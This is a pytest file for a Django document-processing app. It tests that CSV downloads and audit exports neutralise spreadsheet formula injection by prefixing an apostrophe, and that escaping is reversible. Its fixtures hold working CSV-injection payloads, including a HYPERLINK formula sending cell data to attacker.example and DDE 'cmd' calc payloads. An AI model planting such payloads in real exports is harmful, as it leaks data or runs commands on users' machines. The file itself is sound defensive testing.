"""Finding 4: no CSV that docintel writes holds a cell a spreadsheet would run as a formula (OWASP CSV
injection): extraction downloads and audit exports alike. The audit export still verifies offline."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest
from django.apps import apps
from django.core.management import call_command

from .conftest import person

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "document_name": '=HYPERLINK("http://attacker.example/?"&A1,"Open")',
    "governing_law": "+cmd|' /C calc'!A0",
    "payment_terms": "-2+3",
    "confidentiality": "@SUM(1+1)",
    "renewal_term": "\t=1+1",
    "liability_cap": "'=already quoted",
}


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_extraction_csv_neutralises_formulas(client, clerk, document_with_outputs):
    Extraction = apps.get_model("extraction", "Extraction")
    Extraction.objects.filter(document=document_with_outputs).update(data=HOSTILE)
    client.force_login(clerk)
    response = client.get(f"/documents/{document_with_outputs.pk}/download/extraction.csv")
    assert response.status_code == 200
    rows = cells(response.content.decode())
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (row, cell)
    values = {row[0]: row[1] for row in rows[1:]}
    # Shown as text with one apostrophe in front; nothing else changes.
    assert values["/document_name"] == "'" + HOSTILE["document_name"]
    assert values["/liability_cap"] == "''=already quoted"


def test_audit_csv_neutralises_formulas_and_still_verifies(client, tmp_path):
    for name in ("=cmd|' /C calc'!A0", "@alice", "+bob", "-carol"):
        client.force_login(person(name, "clerk"))  # each sign-in is an event naming the user
    out = tmp_path / "audit.csv"
    call_command("audit_export", "--format", "csv", "--out", str(out), stdout=io.StringIO())
    rows = cells(out.read_text(encoding="utf-8"))
    usernames = {row[rows[0].index("actor_username")] for row in rows[1:]}
    assert {"'=cmd|' /C calc'!A0", "'@alice", "'+bob", "'-carol"} <= usernames
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (row, cell)
    checked = subprocess.run([sys.executable, "-m", "audit.verify_export", str(out)],
                             capture_output=True, text=True, timeout=120,
                             cwd=Path(__file__).resolve().parents[2])
    assert checked.returncode == 0, checked.stdout + checked.stderr


def test_the_helper_is_reversible():
    from docintel.csv_safety import neutral_cell, original_cell

    for value in ["", "plain", "'", "''x", *HOSTILE.values(), "=", "\r\n=1"]:
        assert original_cell(neutral_cell(value)) == value
        assert not neutral_cell(value).startswith(FORMULA_STARTS)
